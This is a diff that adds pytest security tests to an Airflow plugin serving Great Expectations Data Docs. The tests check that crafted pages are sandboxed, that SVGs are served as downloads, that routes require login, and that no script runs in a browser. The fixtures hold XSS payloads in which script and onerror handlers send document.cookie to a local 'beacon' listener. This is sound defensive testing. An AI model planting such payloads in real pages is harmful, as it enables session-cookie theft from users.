@@ -9,6 +9,7 @@
 
 from __future__ import annotations
 
+import json
 import mimetypes
 import subprocess
 import time
@@ -202,3 +203,143 @@ def test_every_process_of_the_stack_listens_on_loopback_only(local_stack, demo_r
         for port in (ports.s3, ports.label_studio, ports.airflow):
             with pytest.raises(httpx.ConnectError):
                 httpx.get(f"http://{ip}:{port}/", timeout=3)
+
+
+# -- pages the plugin serves (issue 30, item 1) -----------------------------------------------------
+#: the failing value GX renders unescaped: script, a handler, a remote image and a meta refresh, each of
+#: which would set the title or call the beacon (with the session cookie) if the browser ran or loaded it
+CRAFTED_VALUE = ("<img src='x' onerror=\"document.title='pwned';new Image().src='{beacon}/onerror?'+document.cookie\">"
+                 "<img src='{beacon}/remote-image'><script>document.title='pwned';"
+                 "fetch('{beacon}/script?'+document.cookie)</script>"
+                 "<meta http-equiv='refresh' content='0;url={beacon}/refresh'>")
+CRAFTED_SVG = ("<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='pwned'\">"
+               "<script>fetch('{beacon}/svg?'+document.cookie)</script><rect width='9' height='9'/></svg>")
+
+
+class Beacon:
+    """A loopback HTTP listener that records every request: where a page's script would send the cookie."""
+
+    def __init__(self) -> None:
+        import threading
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+        hits: list[str] = []
+        self.hits = hits
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                hits.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+@pytest.fixture(scope="module")
+def crafted_docs(local_stack, tmp_path_factory):  # type: ignore[no-untyped-def]
+    """A Data Docs site built by the real GX renderer from questions with :data:`CRAFTED_VALUE` as an
+    answer, published to the stack's store under a run of its own, plus a crafted SVG and a page that
+    shows one of the site's own PNGs; removed afterwards."""
+    import pyarrow as pa
+
+    from expectations.runner import validate
+    from expectations.samples import sample_tables
+    from pipelines.store.layout import RunKeys
+
+    beacon = Beacon()
+    params, store = local_stack.params, stack_store(local_stack)
+    run_id = f"sec-docs-{tmp_path_factory.mktemp('x').name}"
+    questions = sample_tables(n_images=4, questions_per_image=2, seed=3)["questions"]
+    frame = questions.to_pandas()
+    frame.loc[0, "answer"] = CRAFTED_VALUE.format(beacon=beacon.url)
+    report = validate("questions", pa.Table.from_pandas(frame, schema=questions.schema, preserve_index=False),
+                      params=params, run_id=run_id, store=store, raise_on_critical=False)
+    run = RunKeys(params.store.runs_prefix, run_id)
+    svg = store.put_bytes(run.datadocs_site_file("questions", None, "static/images/crafted.svg"),
+                          CRAFTED_SVG.format(beacon=beacon.url).encode(), "image/svg+xml")
+    card = store.put_bytes(run.datadocs_site_file("questions", None, "card.html"),
+                           b"<!doctype html><title>card</title><img id='plot' src='static/images/short-logo.png'>",
+                           "text/html")
+    try:
+        assert report.docs_page_key and CRAFTED_VALUE.format(beacon=beacon.url).encode() in store.get_bytes(
+            report.docs_page_key), "GX no longer renders the failing value unescaped: rework this test"
+        yield {"page": report.docs_page_key, "svg": svg, "card": card, "beacon": beacon}
+    finally:
+        beacon.close()
+        store.delete_prefix(safe_key(params.store.runs_prefix, run_id) + "/")
+
+
+def test_stored_pages_come_sandboxed_and_svg_only_as_a_download(local_stack, crafted_docs) -> None:
+    base = local_stack.airflow.url() + "/hopchain/docs/"
+    auth = {"Authorization": f"Bearer {local_stack.airflow.token()}"}
+    page = httpx.get(base + crafted_docs["page"], headers=auth, timeout=60)
+    assert page.status_code == 200 and b"<script>document.title='pwned'" in page.content  # stored as it is ...
+    policy = {d.strip().split(" ")[0]: d.strip() for d in page.headers["content-security-policy"].split(";")}
+    assert "allow-scripts" not in policy["sandbox"] and policy["default-src"] == "default-src 'none'"  # ... inert
+    assert page.headers["x-content-type-options"] == "nosniff"
+    svg = httpx.get(base + crafted_docs["svg"], headers=auth, timeout=60)
+    assert svg.status_code == 200 and svg.headers["content-type"] == "application/octet-stream"
+    assert svg.headers["content-disposition"].startswith("attachment;")
+    assert svg.headers["x-content-type-options"] == "nosniff" and "sandbox" in svg.headers["content-security-policy"]
+    own = httpx.get(local_stack.airflow.url() + "/hopchain/", headers=auth, timeout=60)
+    assert own.headers["x-content-type-options"] == "nosniff"
+    assert "default-src 'none'" in own.headers["content-security-policy"]
+
+
+def test_every_plugin_route_and_the_api_docs_refuse_a_request_without_login(local_stack) -> None:
+    """Against the real api-server: every route of the app (enumerated, so a new one is covered), and
+    what FastAPI would serve by default (``/docs``, ``/redoc``, ``/openapi.json``)."""
+    import re
+
+    from hopchain_airflow.ui.app import create_app
+
+    base = local_stack.airflow.url() + "/hopchain"
+    paths = [re.sub(r"\{[^}]+\}", "x", r.path) for r in create_app().routes]  # type: ignore[attr-defined]
+    paths += ["/docs", "/docs/", "/docs/oauth2-redirect", "/redoc", "/openapi.json", "/nothing-here"]
+    for path in paths:
+        r = httpx.get(base + path, timeout=30)
+        assert r.status_code == 401, (path, r.status_code, r.text[:200])
+        assert r.headers.get("x-content-type-options") == "nosniff", path
+    schema = httpx.get(base + "/openapi.json", timeout=60,
+                       headers={"Authorization": f"Bearer {local_stack.airflow.token()}"})
+    assert schema.status_code == 200 and "/api/status" in schema.json()["paths"]
+
+
+@pytest.mark.skipif(not Path("/usr/bin/chromium").exists(), reason="Debian package chromium is not installed")
+def test_a_crafted_data_docs_page_runs_no_script_in_an_admins_browser(local_stack, crafted_docs) -> None:
+    """The strongest proof: an admin, signed in, opens the crafted page: nothing of it runs or calls
+    out, the failing values are still there to read, and the site's own images still load."""
+    from tests.support.cdp_browser import Browser, sign_in
+
+    creds = local_stack.airflow.credentials()
+    docs = f"{creds['url']}/hopchain/docs/"
+    beacon = crafted_docs["beacon"]
+    with Browser() as browser:
+        page = browser.new_page()
+        sign_in(page, creds["url"], creds["username"], creds["password"])
+        page.goto(docs + crafted_docs["page"])
+        time.sleep(2)  # give a script, an image error handler and the meta refresh their chance
+        assert page.evaluate("document.title") != "pwned"
+        assert page.url() == docs + crafted_docs["page"]  # the meta refresh did not take the admin away
+        text = page.text()
+        assert "questions.answer_canonical" in text and "but the program yields" in text  # still readable
+        folder = crafted_docs["page"].split("validations/")[0]  # the site: GX's index lists it only by script
+        page.goto(docs + folder)
+        assert page.evaluate(f"[...document.links].some(a => a.href === {json.dumps(docs + crafted_docs['page'])})")
+        page.goto(docs + crafted_docs["card"])
+        assert page.wait_for("document.getElementById('plot').complete"
+                             " && document.getElementById('plot').naturalWidth", 20, what="the site's image")
+        page.send("Page.navigate", {"url": docs + crafted_docs["svg"]})  # a download, never a document here
+        time.sleep(2)
+        assert page.evaluate("document.title") != "pwned"
+    assert beacon.hits == [], beacon.hits
